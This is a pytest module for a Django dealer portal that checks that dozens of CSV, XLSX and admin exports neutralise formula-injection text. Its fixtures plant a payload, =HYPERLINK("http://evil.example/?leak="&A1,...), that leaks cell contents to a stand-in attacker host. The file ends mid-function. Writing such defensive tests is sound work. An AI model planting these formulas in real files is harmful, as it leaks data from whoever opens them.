"""Every file the portal writes is safe to open in a spreadsheet: no cell is a live formula.

A dealer controls text that ends up in files others open (its name, comments, record ids,
the cells of a rejected row). Each exporter below is fed such text starting with each of
= + - @ tab and carriage return, and every cell of what it writes is checked. The discovery
test fails when code that writes a table (write_csv, write_xlsx, a csv writer, a workbook,
an admin resource) is not walked here.
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable, Iterable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import models
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from assessments.exporting import FORMULA_STARTS
from assessments.importing import messages as msg
from assessments.models import Complaint, ImportJob, MonthlySubmission, Scheme
from assessments.services.schemes import scheme_draft_from
from dealers.models import Dealer, Region, User
from goals.choices import GoalKind, GroupKind
from goals.services import GoalTerms, goal_create, goal_revise
from incentives.models import IncentiveAction
from surveys.models import SurveyResponse
from surveys.services import hot_alerts_open_for, invitations_create_for_closed
from tests.api.conftest import api_client, make_action, make_ledger_entry, make_rectification
from tests.assessments.conftest import seed_scored_months
from tests.assessments.import_helpers import ro_rows
from tests.conftest import client_for
from tests.factories import (
    ComplaintFactory,
    PartsOrderFactory,
    RepairOrderFactory,
    SubmissionFactory,
    SurveyResponseFactory,
    local,
)

pytestmark = pytest.mark.django_db

ROOT = Path(settings.BASE_DIR)
APPS = ("assessments", "config", "dealers", "goals", "incentives", "insights", "support", "surveys")
#: One payload per character a spreadsheet starts a formula with.
PAYLOADS = [f'{start}HYPERLINK("http://evil.example/?leak="&A1,"open me")' for start in FORMULA_STARTS]
PAYLOAD = PAYLOADS[0]


# --- reading what was written ----------------------------------------------------------------------


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def live_formulas(cells: Iterable[tuple[str, Any]]) -> list[Any]:
    """The cells a spreadsheet would run: formula cells, and text starting like a formula
    (a plain negative number such as -1.5 is a number, not a formula)."""
    live = []
    for data_type, value in cells:
        if data_type == "f":
            live.append(value)
        elif isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value):
            live.append(value)
    return live


def neutralised(cells: Iterable[tuple[str, Any]]) -> list[str]:
    """The cells that were neutralised: text starting with ' then a formula character."""
    return [
        v for _t, v in cells if isinstance(v, str) and v.startswith("'") and v[1:].startswith(FORMULA_STARTS)
    ]


def cells_of(content: bytes, fmt: str) -> list[tuple[str, Any]]:
    """Every cell of a CSV, TSV or XLSX file, as (data type, value); data type "f" is a formula."""
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(content))
        return [(cell.data_type, cell.value) for sheet in book for row in sheet.iter_rows() for cell in row]
    text = content.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text), delimiter="\t" if fmt == "tsv" else ",")
    return [("s", cell) for row in rows for cell in row]


def body(response: Any) -> bytes:
    assert response.status_code == 200, (response.status_code, response.content[:300])
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_safe(content: bytes, fmt: str, where: str) -> None:
    cells = cells_of(content, fmt)
    assert not live_formulas(cells), f"{where}: live formula cells {live_formulas(cells)[:3]}"
    assert neutralised(cells), f"{where}: no payload reached the file, so the check proves nothing"


# --- the world: a dealer whose every text is a formula -------------------------------------------


def _set(model: type[models.Model], pk: int, **texts: str) -> None:
    """Set these text fields of a row, each cut to its column's length."""
    fields = {name: model._meta.get_field(name) for name in texts}
    model.objects.filter(pk=pk).update(
        **{
            name: text[: fields[name].max_length] if fields[name].max_length else text
            for name, text in texts.items()
        }
    )


def _poison(instance: models.Model, skip: Iterable[str] = ()) -> None:
    """Set every free-text field (no choices) of `instance` to a payload, cut to its length."""
    values = {}
    for i, f in enumerate(instance._meta.concrete_fields):
        if isinstance(f, models.CharField | models.TextField) and not f.choices and f.name not in skip:
            text = PAYLOADS[i % len(PAYLOADS)]
            values[f.attname] = text[: f.max_length] if f.max_length else text
    type(instance).objects.filter(pk=instance.pk).update(**values)


@pytest.fixture
def world(cast, dealer, other_dealer, far_dealer) -> dict[str, Any]:
    """Scored months, survey answers, an open hot alert and complaint, an invitation,
    incentive actions and ledger entries; then every free text a dealer controls is a formula."""
    seed_scored_months(cast, dealer, other_dealer, far_dealer)
    now = timezone.now()
    response = SurveyResponseFactory(dealer=dealer, overall=1, responded_at=now - timedelta(days=2))
    hot_alerts_open_for([response], now=now - timedelta(days=2), notify=False)
    ComplaintFactory(dealer=dealer, received_at=now - timedelta(days=2), closed_at=None)
    ComplaintFactory(dealer=dealer, received_at=now - timedelta(hours=2), closed_at=None)  # due today
    closed = now - timedelta(hours=2)
    ro = RepairOrderFactory(dealer=dealer, opened_at=closed - timedelta(hours=6), closed_at=closed)
    invitations_create_for_closed(since=closed - timedelta(seconds=1))
    make_action(dealer, origin="rule:safe-files")
    make_ledger_entry(dealer, origin="rule:safe-files-ledger")
    make_rectification(dealer, origin="rule:safe-files-rectification", evidence=False)
    _flagged_responses(dealer)

    _set(Dealer, dealer.pk, name=PAYLOADS[0], city=PAYLOADS[1], province=PAYLOADS[2])
    _set(Region, dealer.region_id, name=PAYLOADS[3])
    _poison(ro, skip=["ro_number"])
    RepairOrderFactory(dealer=dealer, ro_number=PAYLOADS[4][:40], closed_at=local("2026-10-15 10:00"))
    for record in [*SurveyResponse.objects.filter(dealer=dealer), *Complaint.objects.filter(dealer=dealer)]:
        _poison(record, skip=["response_id", "complaint_id"])
    IncentiveAction.objects.update(reason=PAYLOADS[5])
    MonthlySubmission.objects.filter(dealer=dealer).update(review_comment=PAYLOADS[1])
    terms = GoalTerms(
        kpi_code="complaint_rate",
        group_kind=GroupKind.REGION,  # its label is the region's name, a payload here
        region=Region.objects.get(pk=dealer.region_id),
        month_from="2026-09",
        month_to="2026-10",
        kind=GoalKind.LEVEL,
        target=2.0,
        owner=cast["hq_manager"],
        note=PAYLOADS[6 % len(PAYLOADS)],
    )
    goal = goal_create(terms=terms, actor=cast["hq_admin"])
    # A second version whose changed note is a payload (the goal's versions export).
    goal_revise(goal=goal, terms=replace(terms, note=PAYLOADS[1]), actor=cast["hq_admin"])
    _support_case(dealer)
    _finding(dealer, cast["hq_manager"])
    _appeal(dealer)
    _followup_call(dealer, cast["hq_manager"])
    return {**cast, "dealer": dealer}


def _flagged_responses(dealer: Dealer) -> None:
    """Two answers about one repair order, flagged as duplicates (the integrity review export);
    their comments become payloads with the dealer's other responses."""
    from surveys.services import responses_flag

    ro = RepairOrderFactory(dealer=dealer, closed_at=local("2026-10-18 10:00"))
    responses_flag(
        [
            SurveyResponseFactory(dealer=dealer, repair_order=ro, responded_at=local(f"2026-10-19 1{i}:00"))
            for i in range(2)
        ]
    )


def _followup_call(dealer: Dealer, hq: User) -> None:
    """A call-centre call whose note is a payload (the calls export)."""
    from surveys.models import FollowUpCall

    ro = RepairOrderFactory(dealer=dealer, closed_at=local("2026-10-20 10:00"))
    FollowUpCall.objects.create(
        repair_order=ro,
        dealer=dealer,
        called_at=timezone.now(),
        called_by=hq,
        outcome="reached",
        note=PAYLOADS[5],
    )


def _appeal(dealer: Dealer) -> None:
    """An appeal whose reason, in the dealer's words, is a payload (the appeals export)."""
    from incentives.models import Appeal

    Appeal.objects.create(dealer=dealer, period="2026-10", kpi_code="csat", reason=PAYLOADS[2])


def _finding(dealer: Dealer, hq: User) -> None:
    """A finding with the dealer's name and a closed review (复盘) whose words are payloads: the
    findings list, its records and the daily review export them."""
    from insights.models import Finding, Review

    now = timezone.now()
    ro = RepairOrderFactory(dealer=dealer, ro_number=PAYLOADS[0][:40], fault_code="F013")
    # A survey answer whose id, as the dealer's system gave it, is a payload (the finding's responses).
    response = SurveyResponseFactory(dealer=dealer, response_id=PAYLOADS[2][:40])
    finding = Finding.objects.create(
        kind="warranty_cost",
        subject=PAYLOADS[4][:40],
        dealer=dealer,
        month="2026-10",
        fingerprint="safe-files",
        figures={"value": 1.0},
        evidence={"repair_orders": [ro.pk], "dealers": [dealer.pk], "responses": [response.pk]},
        status="closed",
        owner=hq,
        found_at=now,
        last_seen_at=now,
    )
    review = Review.objects.create(
        finding=finding,
        root_cause=PAYLOADS[1],
        countermeasure=PAYLOADS[2],
        lesson=PAYLOADS[3],
        closed_by=hq,
        closed_at=now,
    )
    review.notified_dealers.add(dealer)  # the lessons told to its users (their export)


def _support_case(dealer: Dealer) -> None:
    """A technical case this month with the dealer's words and an expert's name as payloads."""
    from dealers.choices import Role
    from support.models import SupportCase

    expert = User.objects.create(username="expert-safe-files", role=Role.TECH_EXPERT, first_name=PAYLOADS[1])
    now = timezone.now()
    SupportCase.objects.create(
        dealer=dealer,
        vin="LSVAB4BM0NN000001",
        fault_code=PAYLOADS[2][:20],
        symptom=PAYLOADS[0],
        solution=PAYLOADS[3],
        expert=expert,
        opened_at=now - timedelta(hours=3),
        first_response_at=now - timedelta(hours=2),
        resolved_at=now - timedelta(hours=1),
        status="resolved",
    )


# --- the portal's own exports -----------------------------------------------------------------------

PAGE_EXPORTS: dict[str, tuple[str, Callable[[], str], str]] = {
    # name: (format, URL, user)
    "ranking csv": (
        "csv",
        lambda: reverse("assessments:ranking_export", args=["csv"]) + "?period=2026-10",
        "hq_admin",
    ),
    "ranking xlsx": (
        "xlsx",
        lambda: reverse("assessments:ranking_export", args=["xlsx"]) + "?period=2026-10",
        "hq_admin",
    ),
    "drill-down csv": (
        "csv",
        lambda: "/assessments/dealers/GL0001/2026-10/kpi/repair_count/export.csv",
        "hq_admin",
    ),
    "drill-down xlsx": (
        "xlsx",
        lambda: "/assessments/dealers/GL0001/2026-10/kpi/repair_count/export.xlsx",
        "hq_admin",
    ),
    "incentive queue csv": (
        "csv",
        lambda: reverse("incentives:queue_export", args=["csv"]) + "?status=",
        "hq_admin",
    ),
    "incentive queue xlsx": (
        "xlsx",
        lambda: reverse("incentives:queue_export", args=["xlsx"]) + "?status=",
        "hq_admin",
    ),
    "ledger csv": ("csv", lambda: reverse("incentives:ledger_export", args=["csv"]), "hq_admin"),
    "ledger xlsx": ("xlsx", lambda: reverse("incentives:ledger_export", args=["xlsx"]), "hq_admin"),
    "daily clearing csv": ("csv", lambda: reverse("surveys:board_export", args=["csv"]), "hq_admin"),
    "daily clearing xlsx": ("xlsx", lambda: reverse("surveys:board_export", args=["xlsx"]), "hq_admin"),
    "survey results csv": ("csv", lambda: reverse("surveys:results_export", args=["csv"]), "hq_admin"),
    "survey results xlsx": ("xlsx", lambda: reverse("surveys:results_export", args=["xlsx"]), "hq_admin"),
    "hot alerts csv": ("csv", lambda: reverse("surveys:alerts_export", args=["csv"]), "hq_admin"),
    "hot alerts xlsx": ("xlsx", lambda: reverse("surveys:alerts_export", args=["xlsx"]), "hq_admin"),
    "invitations csv": ("csv", lambda: reverse("surveys:invitations_export", args=["csv"]), "hq_admin"),
    "invitations xlsx": ("xlsx", lambda: reverse("surveys:invitations_export", args=["xlsx"]), "hq_admin"),
    "ranking all KPIs csv": (
        "csv",
        lambda: reverse("assessments:ranking_kpis_export", args=["csv"]) + "?period=2026-10",
        "hq_admin",
    ),
    "network regions csv": (
        "csv",
        lambda: reverse("assessments:network_export", args=["csv"]) + "?table=groups&month=2026-10",
        "hq_admin",
    ),
    "network drill csv": (
        "csv",
        lambda: reverse("assessments:network_drill_export", args=["csv"]) + "?kpi=repair_count&month=2026-10",
        "hq_admin",
    ),
    "goals csv": ("csv", lambda: reverse("goals:list_export", args=["csv"]), "hq_admin"),
    "support cases csv": (
        "csv",
        lambda: reverse("support:export", args=["csv"]) + "?status=all",
        "hq_manager",
    ),
    "support cases xlsx": (
        "xlsx",
        lambda: reverse("support:export", args=["xlsx"]) + "?status=all",
        "hq_manager",
    ),
    "support report csv": ("csv", lambda: reverse("support:report_export", args=["csv"]), "hq_manager"),
    "support report xlsx": ("xlsx", lambda: reverse("support:report_export", args=["xlsx"]), "hq_manager"),
    "submission queue csv": (
        "csv",
        lambda: reverse("submissions:queue_export", args=["csv"]) + "?period=2026-10",
        "hq_manager",
    ),
    "submission queue xlsx": (
        "xlsx",
        lambda: reverse("submissions:queue_export", args=["xlsx"]) + "?period=2026-10",
        "hq_manager",
    ),
    "appeals csv": ("csv", lambda: reverse("incentives:appeals_export", args=["csv"]), "hq_manager"),
    "appeals xlsx": ("xlsx", lambda: reverse("incentives:appeals_export", args=["xlsx"]), "hq_manager"),
    "overview top csv": (
        "csv",
        lambda: reverse("assessments:overview_export", args=["csv"]) + "?period=2026-10&table=top",
        "hq_manager",
    ),
    "overview top xlsx": (
        "xlsx",
        lambda: reverse("assessments:overview_export", args=["xlsx"]) + "?period=2026-10&table=top",
        "hq_manager",
    ),
    "scorecard KPIs csv": ("csv", lambda: "/assessments/dealers/GL0001/2026-10/export.csv", "hq_manager"),
    "scorecard KPIs xlsx": ("xlsx", lambda: "/assessments/dealers/GL0001/2026-10/export.xlsx", "hq_manager"),
    "imports csv": ("csv", lambda: reverse("imports:list_export", args=["csv"]), "hq_manager"),
    "imports xlsx": ("xlsx", lambda: reverse("imports:list_export", args=["xlsx"]), "hq_manager"),
    "follow-up calls csv": ("csv", lambda: reverse("surveys:calls_export", args=["csv"]), "hq_manager"),
    "follow-up calls xlsx": ("xlsx", lambda: reverse("surveys:calls_export", args=["xlsx"]), "hq_manager"),
    "rectification orders csv": (
        "csv",
        lambda: reverse("incentives:rectifications_export", args=["csv"]) + "?status=all",
        "hq_manager",
    ),
    "rectification orders xlsx": (
        "xlsx",
        lambda: reverse("incentives:rectifications_export", args=["xlsx"]) + "?status=all",
        "hq_manager",
    ),
    "dealer survey responses csv": (
        "csv",
        lambda: reverse("surveys:dealer_results_export", args=["GL0001", "csv"]) + "?period=2026-10",
        "hq_manager",
    ),
    "dealer survey responses xlsx": (
        "xlsx",
        lambda: reverse("surveys:dealer_results_export", args=["GL0001", "xlsx"]) + "?period=2026-10",
        "hq_manager",
    ),
    "integrity review csv": ("csv", lambda: reverse("surveys:review_export", args=["csv"]), "hq_manager"),
    "integrity review xlsx": ("xlsx", lambda: reverse("surveys:review_export", args=["xlsx"]), "hq_manager"),
    "knowledge base csv": ("csv", lambda: reverse("support:solutions_export", args=["csv"]), "hq_manager"),
    "knowledge base xlsx": ("xlsx", lambda: reverse("support:solutions_export", args=["xlsx"]), "hq_manager"),
    "lessons csv": ("csv", lambda: reverse("insights:lessons_export", args=["csv"]), "dealer_user"),
    "lessons xlsx": ("xlsx", lambda: reverse("insights:lessons_export", args=["xlsx"]), "dealer_user"),
    "dealer scorecards csv": (
        "csv",
        lambda: reverse("dealers:detail_export", args=["GL0001", "csv"]),
        "hq_manager",
    ),
    "dealer scorecards xlsx": (
        "xlsx",
        lambda: reverse("dealers:detail_export", args=["GL0001", "xlsx"]),
        "hq_manager",
    ),
    "dealer actions csv": (
        "csv",
        lambda: reverse("incentives:dealer_export", args=["GL0001", "csv"]),
        "hq_manager",
    ),
    "dealer actions xlsx": (
        "xlsx",
        lambda: reverse("incentives:dealer_export", args=["GL0001", "xlsx"]),
        "hq_manager",
    ),
    "own submissions csv": ("csv", lambda: reverse("submissions:queue_export", args=["csv"]), "dealer_user"),
    "own submissions xlsx": (
        "xlsx",
        lambda: reverse("submissions:queue_export", args=["xlsx"]),
        "dealer_user",
    ),
    "to call csv": ("csv", lambda: reverse("surveys:candidates_export", args=["csv"]), "hq_manager"),
    "to call xlsx": ("xlsx", lambda: reverse("surveys:candidates_export", args=["xlsx"]), "hq_manager"),
    "ledger totals per region csv": (
        "csv",
        lambda: reverse("incentives:ledger_regions_export", args=["csv"]),
        "hq_manager",
    ),
    "ledger totals per region xlsx": (
        "xlsx",
        lambda: reverse("incentives:ledger_regions_export", args=["xlsx"]),
        "hq_manager",
    ),
    "tier scores csv": (
        "csv",
        lambda: reverse("assessments:scorecard_tiers_export", args=["GL0001", "2026-10", "csv"]),
        "hq_manager",
    ),
    "tier scores xlsx": (
        "xlsx",
        lambda: reverse("assessments:scorecard_tiers_export", args=["GL0001", "2026-10", "xlsx"]),
        "hq_manager",
    ),
    "goal versions csv": (
        "csv",
        lambda: reverse("goals:versions_export", args=[_goal_pk(), "csv"]),
        "hq_admin",
    ),
    "goal versions xlsx": (
        "xlsx",
        lambda: reverse("goals:versions_export", args=[_goal_pk(), "xlsx"]),
        "hq_admin",
    ),
    "finding dealers csv": (
        "csv",
        lambda: reverse("insights:dealers_export", args=[_finding_pk(), "csv"]),
        "hq_manager",
    ),
    "finding dealers xlsx": (
        "xlsx",
        lambda: reverse("insights:dealers_export", args=[_finding_pk(), "xlsx"]),
        "hq_manager",
    ),
    "finding responses csv": (
        "csv",
        lambda: reverse("insights:responses_export", args=[_finding_pk(), "csv"]),
        "hq_manager",
    ),
    "finding responses xlsx": (
        "xlsx",
        lambda: reverse("insights:responses_export", args=[_finding_pk(), "xlsx"]),
        "hq_manager",
    ),
    "dealer list csv": ("csv", lambda: reverse("dealers:list_export", args=["csv"]), "hq_manager"),
    "dealer list xlsx": ("xlsx", lambda: reverse("dealers:list_export", args=["xlsx"]), "hq_manager"),
    "findings csv": (
        "csv",
        lambda: reverse("insights:list_export", args=["csv"]) + "?status=closed",
        "hq_manager",
    ),
    "findings xlsx": (
        "xlsx",
        lambda: reverse("insights:list_export", args=["xlsx"]) + "?status=closed",
        "hq_manager",
    ),
    "finding records csv": (
        "csv",
        lambda: reverse("insights:evidence_export", args=[_finding_pk(), "csv"]),
        "hq_manager",
    ),
    "finding records xlsx": (
        "xlsx",
        lambda: reverse("insights:evidence_export", args=[_finding_pk(), "xlsx"]),
        "hq_manager",
    ),
    "daily review csv": (
        "csv",
        lambda: reverse("insights:daily_export", args=["csv"]) + f"?day={timezone.localdate().isoformat()}",
        "hq_manager",
    ),
    "daily review xlsx": (
        "xlsx",
        lambda: reverse("insights:daily_export", args=["xlsx"]) + f"?day={timezone.localdate().isoformat()}",
        "hq_manager",
    ),
    "ranking all KPIs xlsx": (
        "xlsx",
        lambda: reverse("assessments:ranking_kpis_export", args=["xlsx"]) + "?period=2026-10",
        "hq_admin",
    ),
    "network regions xlsx": (
        "xlsx",
        lambda: reverse("assessments:network_export", args=["xlsx"]) + "?table=groups&month=2026-10",
        "hq_admin",
    ),
    "network drill xlsx": (
        "xlsx",
        lambda: (
            reverse("assessments:network_drill_export", args=["xlsx"]) + "?kpi=repair_count&month=2026-10"
        ),
        "hq_admin",
    ),
    "goals xlsx": ("xlsx", lambda: reverse("goals:list_export", args=["xlsx"]), "hq_admin"),
    "scheme preview csv": (
        "csv",
        lambda: (
            reverse(
                "schemes:preview_export", args=[scheme_draft_from(source=Scheme.objects.first()).pk, "csv"]
            )
            + "?period=2026-10"
        ),
        "hq_admin",
    ),
    "scheme preview xlsx": (
        "xlsx",
        lambda: (
            reverse(
                "schemes:preview_export", args=[scheme_draft_from(source=Scheme.objects.first()).pk, "xlsx"]
            )
            + "?period=2026-10"
        ),
        "hq_admin",
    ),
}


#: Exports no typed text reaches (months, figures and labels from the code): no payload can
#: reach them, so they are only checked to answer and to hold no live formula.
PAGE_EXPORTS_WITHOUT_USER_TEXT: dict[str, tuple[str, Callable[[], str], str]] = {
    "ledger totals per month csv": (
        "csv",
        lambda: reverse("incentives:ledger_months_export", args=["csv"]),
        "hq_manager",
    ),
    "ledger totals per month xlsx": (
        "xlsx",
        lambda: reverse("incentives:ledger_months_export", args=["xlsx"]),
        "hq_manager",
    ),
    "finding months csv": (
        "csv",
        lambda: reverse("insights:months_export", args=[_finding_pk(), "csv"]),
        "hq_manager",
    ),
    "finding months xlsx": (
        "xlsx",
        lambda: reverse("insights:months_export", args=[_finding_pk(), "xlsx"]),
        "hq_manager",
    ),
    "finding before and after csv": (
        "csv",
        lambda: reverse("insights:before_after_export", args=[_finding_pk(), "csv"]),
        "hq_manager",
    ),
    "finding before and after xlsx": (
        "xlsx",
        lambda: reverse("insights:before_after_export", args=[_finding_pk(), "xlsx"]),
        "hq_manager",
    ),
}


def _finding_pk() -> int:
    from insights.models import Finding

    return Finding.objects.get(fingerprint="safe-files").pk


def _goal_pk() -> int:
    from goals.models import Goal

    return Goal.objects.get(kpi_code="complaint_rate", version=2).pk


@pytest.mark.parametrize("name", sorted(PAGE_EXPORTS))
def test_page_exports_write_no_live_formula(world, name):
    fmt, url, user = PAGE_EXPORTS[name]

    content = body(client_for(world[user]).get(url()))

    assert_safe(content, fmt, name)


@pytest.mark.parametrize("name", sorted(PAGE_EXPORTS_WITHOUT_USER_TEXT))
def test_page_exports_without_user_text_write_no_live_formula(world, name):
    fmt, url, user = PAGE_EXPORTS_WITHOUT_USER_TEXT[name]

    content = body(client_for(world[user]).get(url()))

    assert not live_formulas(cells_of(content, fmt)), name


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_scorecard_export_command_writes_no_live_formula(world, tmp_path, fmt):
    out = tmp_path / f"cards.{fmt}"

    call_command("export_scorecards", "--period", "2026-10", "--format", fmt, "--output", str(out))

    assert_safe(out.read_bytes(), fmt, f"export_scorecards {fmt}")


# --- the import's error files ------------------------------------------------------------------------


REJECTED_ROWS = ro_rows(
    *({"ro_number": f"RO{i}", "vin": "BAD", "fault_code": p} for i, p in enumerate(PAYLOADS))
)


def _upload_rejected_rows(client: Any) -> ImportJob:
    file = SimpleUploadedFile("orders.csv", REJECTED_ROWS.encode(), content_type="text/csv")
    client.post(reverse("imports:upload"), {"kind": "repair_orders", "file": file})
    return ImportJob.objects.latest("pk")


def test_the_error_file_neutralises_the_dealers_cells_and_says_so(dealer, dealer_user, hq_manager):
    job = _upload_rejected_rows(client_for(dealer_user))
    assert job.rejected == len(PAYLOADS)

    for client in (client_for(dealer_user), client_for(hq_manager)):
        page = body(client.get(reverse("imports:error_file", args=[job.pk])))
        assert_safe(page, "csv", "error file")
        assert str(msg.ERROR_FILE_NOTE) in cells_of(page, "csv")[len(ro_rows().splitlines()[0].split(","))][1]
    api = body(api_client(dealer_user).get(reverse("api:importjob-error-file", args=[job.pk])))
    assert_safe(api, "csv", "error file through the API")


def test_the_table_of_row_errors_is_neutralised(dealer, dealer_user):
    job = _upload_rejected_rows(client_for(dealer_user))
    # Row errors quote the dealer's header and cells; make sure they start like a formula.
    job.errors = [{"row": i + 2, "column": p, "message": p} for i, p in enumerate(PAYLOADS)]
    job.save()

    content = body(client_for(dealer_user).get(reverse("imports:errors_csv", args=[job.pk])))

    assert_safe(content, "csv", "table of row errors")


def test_the_original_upload_stays_untouched_for_its_uploader_only(dealer, dealer_user, hq_manager, hq_admin):
    job = _upload_rejected_rows(client_for(dealer_user))
    url = reverse("imports:original", args=[job.pk])

    original = body(client_for(dealer_user).get(url))

    # The uploader gets the file back byte for byte, formulas and all, from a link on the import's page
    assert original == REJECTED_ROWS.encode() and b"=HYPERLINK(" in original
    detail = reverse("imports:detail", args=[job.pk])
    assert url in client_for(dealer_user).get(detail).content.decode()
    assert url not in client_for(hq_manager).get(detail).content.decode()
    for other in (hq_manager, hq_admin):  # who may see the import, but did not upload it
        assert client_for(other).get(url).status_code == 404
    # nor by confirming the dealer's preview, which shares its file
    client_for(hq_manager).post(reverse("imports:confirm", args=[job.pk]), {"mode": "partial"})
    confirmed = ImportJob.objects.latest("pk")
    assert confirmed.user == hq_manager and confirmed.upload.name == job.upload.name
    assert client_for(hq_manager).get(reverse("imports:original", args=[confirmed.pk])).status_code == 404
    page = client_for(hq_manager).get(reverse("imports:detail", args=[confirmed.pk])).content.decode()
    assert reverse("imports:original", args=[confirmed.pk]) not in page


# --- the Django admin's exports -------------------------------------------------------------------

ADMIN_FORMATS = {"CSV": "csv", "TSV": "tsv", "XLSX": "xlsx"}


@pytest.fixture
def admin_world(cast, dealer) -> dict[str, Any]:
    """One record of every model the admin exports, every free text of it a formula."""
    for record in (
        RepairOrderFactory(dealer=dealer),
        ComplaintFactory(dealer=dealer),
        SurveyResponseFactory(dealer=dealer),
        PartsOrderFactory(dealer=dealer),
        SubmissionFactory(dealer=dealer, period="2026-10"),
        ImportJob.objects.create(
            kind="complaints", user=cast["dealer_user"], dealer=dealer, file_name="x.csv"
        ),
    ):
        _poison(record, skip=["ro_number"])
    _set(Dealer, dealer.pk, name=PAYLOADS[0], city=PAYLOADS[1], province=PAYLOADS[2])
    _set(Region, dealer.region_id, name=PAYLOADS[3])
    _set(User, cast["dealer_user"].pk, username=PAYLOADS[4])
    return {**cast, "dealer": dealer}


def _exporting_admins() -> list[tuple[str, Any]]:
    return sorted(
        (model._meta.label, model_admin)
        for model, model_admin in admin.site._registry.items()
        if hasattr(model_admin, "get_export_resource_classes")
    )


@pytest.mark.parametrize("fmt_name", sorted(ADMIN_FORMATS))
@pytest.mark.parametrize(
    ("label", "model_admin"), _exporting_admins(), ids=[label for label, _ in _exporting_admins()]
)
def test_every_admin_export_writes_no_live_formula(admin_world, label, model_admin, fmt_name):
    world = admin_world
    request = RequestFactory().get("/admin/")
    request.user = world["hq_admin"]
    file_format = next(f for f in model_admin.get_export_formats() if f.__name__ == fmt_name)()

    content = model_admin.get_export_data(file_format, request, model_admin.get_export_queryset(request))

    assert_safe(content if isinstance(content, bytes) else content.encode(), ADMIN_FORMATS[fmt_name], label)


def test_the_dealer_export_through_the_admin_page_is_neutralised(admin_world):
    world = admin_world
    client = client_for(world["hq_admin"])
    url = reverse("admin:dealers_dealer_export")
    form = client.get(url).context["form"]
    formats = [name for name, _label in form.fields["format"].choices]
    xlsx = next(
        i for i, (_v, label) in enumerate(form.fields["format"].choices) if "xlsx" in str(label).lower()
    )
    fields = {name: "on" for name in form.fields if name not in ("format", "resource", "export_items")}

    response = client.post(url, {"format": formats[xlsx], "resource": 0, **fields})

    assert_safe(body(response), "xlsx", "admin dealer export page")


# --- discovery: every table writer is walked ------------------------------------------------------

TABLE_WRITERS = {
    "write_csv",
    "write_xlsx",
    "safe_row",
    "writer",
    "DictWriter",
    "Workbook",
    "scorecards_table",
    "export_response",
}
#: The functions that write tables, and the cases above that open what they write.
WALKED = {
    "assessments.views.ranking_export": "ranking csv/xlsx",
    "assessments.views.kpi_drilldown_export": "drill-down csv/xlsx",
    "assessments.views.ranking_kpis_export": "ranking all KPIs csv/xlsx",
    "assessments.views_network.network_export": "network regions csv/xlsx",
    "assessments.views_network.network_drill_export": "network drill csv/xlsx",
    "goals.views.goal_list_export": "goals csv/xlsx",
    "support.views.case_list_export": "support cases csv/xlsx",
    "support.views.report_export": "support report csv/xlsx",
    # Months, figures and status labels from the code: no typed text reaches it.
    "goals.views.goal_export": "a goal's months csv/xlsx (no user text)",
    "assessments.views_imports.import_errors_csv": "error file test",
    "assessments.views_schemes.scheme_preview_export": "scheme preview csv/xlsx",
    "assessments.exports.scorecards_table": "export_scorecards command",
    "assessments.management.commands.export_scorecards.Command.handle": "export_scorecards command",
    "assessments.importing.service.import_file": "error file test",
    "assessments.importing.service._reject": "error file test",
    "assessments.importing.service._read_and_run": "error file test",
    "incentives.views.action_queue_export": "incentive queue csv/xlsx",
    "incentives.views.ledger_export": "ledger csv/xlsx",
    "surveys.views.board_export": "daily clearing csv/xlsx",
    "surveys.views.results_export": "survey results csv/xlsx",
    # No typed text reaches it (factor labels from the code, figures) and it goes through
    # export_response like the others, so there is no payload to walk.
    "surveys.views.factors_export": "survey factors csv/xlsx (no user text)",
    "surveys.views.alerts_export": "hot alerts csv/xlsx",
    "surveys.views.invitation_export": "invitations csv/xlsx",
    "insights.views.finding_list_export": "findings csv/xlsx",
    "dealers.views.dealer_list_export": "dealer list csv/xlsx",
    # Its regions and top/bottom tables; the regions' names are the scorecards' copies.
    "assessments.views.overview_export": "overview top csv/xlsx",
    "assessments.views.scorecard_export": "scorecard KPIs csv/xlsx",
    "assessments.views_imports.import_list_export": "imports csv/xlsx",
    "surveys.views.calls_export": "follow-up calls csv/xlsx",
    "incentives.views_rectification.rectification_list_export": "rectification orders csv/xlsx",
    "surveys.views.dealer_results_export": "dealer survey responses csv/xlsx",
    "surveys.views.review_export": "integrity review csv/xlsx",
    "support.views.solution_search_export": "knowledge base csv/xlsx",
    "insights.views.lessons_export": "lessons csv/xlsx",
    "dealers.views.dealer_detail_export": "dealer scorecards csv/xlsx",
    "incentives.views.dealer_history_export": "dealer actions csv/xlsx",
    # A dealer user's own reports, from the queue export's URL (their page's too).
    "assessments.views_submissions._own_submissions_export": "own submissions csv/xlsx",
    "incentives.views_appeals.appeal_list_export": "appeals csv/xlsx",
    "assessments.views_submissions.submission_queue_export": "submission queue csv/xlsx",
    # The guide's own example values (importing/guide.py): no typed text reaches it.
    "assessments.views_imports.import_template": "upload templates csv/xlsx (no user text)",
    "insights.views.finding_evidence_export": "a finding's records csv/xlsx",
    "insights.views.daily_export": "daily review csv/xlsx",
    "surveys.views.candidates_export": "to call csv/xlsx",
    "incentives.views.ledger_regions_export": "ledger totals per region csv/xlsx",
    "assessments.views.scorecard_tiers_export": "tier scores csv/xlsx",
    "goals.views.goal_versions_export": "goal versions csv/xlsx",
    "insights.views.finding_dealers_export": "finding dealers csv/xlsx",
    "insights.views.finding_responses_export": "finding responses csv/xlsx",
    # Months and amounts, months and figures: no typed text reaches them.
    "incentives.views.ledger_months_export": "ledger totals per month csv/xlsx (no user text)",
    "insights.views.finding_months_export": "finding months csv/xlsx (no user text)",
    "insights.views.finding_before_after_export": "finding before and after csv/xlsx (no user text)",
}
#: The helper itself.
HELPER = "assessments.exporting"


def _table_writing_functions() -> set[str]:
    found = set()
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
            if module == HELPER or "/migrations/" in str(path):
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for scope in _scopes(tree, module):
                name, node = scope
                calls = {
